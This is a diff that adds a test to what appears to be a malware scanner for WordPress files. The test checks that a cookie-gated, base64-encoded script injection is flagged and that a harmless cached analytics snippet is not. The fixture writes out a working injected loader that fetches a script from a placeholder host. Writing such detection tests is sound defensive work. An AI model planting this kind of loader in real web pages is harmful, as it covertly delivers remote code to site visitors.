@@ -69,4 +69,19 @@ document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.
     // A few escaped bytes (a non-breaking space, a quote) are no hidden script.
     expect(hidesBrowserScript(`document.write("\\u00a0\\u0022Hello\\u0022")`)).toBe(false);
   });
+
+  it('reads a script loaded from a base64 data: URL as the script it decodes to', () => {
+    const base64 = (text: string) => Buffer.from(text).toString('base64');
+    const hidden = `document.write(unescape('${percent(`<script src="https://cdn.example.test/r.js"></script>`)}'));`;
+    // The "codes_iframe" injection: a cookie-gated loader whose script is a data: URL.
+    const injected = `<p>Post</p><!--x--><script>var src="data:text/javascript;base64,${base64(hidden)}";if(!document.cookie.match(/seen=/)){document.cookie="seen=1";document.write('<script src="'+src+'"><\\/script>')}</script><!--/x-->`;
+    expect(topFinding('/var/www/html/wp-content/post.php', injected)).toMatchObject({
+      rule: 'hidden-browser-script',
+      severity: 'high',
+    });
+    // A caching plugin inlines a site's own script as a data: URL: what it decodes to is plain.
+    const cached = `<script src="data:text/javascript;base64,${base64(`window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());`)}" defer></script>`;
+    expect(hidesBrowserScript(cached)).toBe(false);
+    expect(isRuleAlarm('/var/www/html/wp-content/cache/page.html', cached)).toBe(false);
+  });
 });
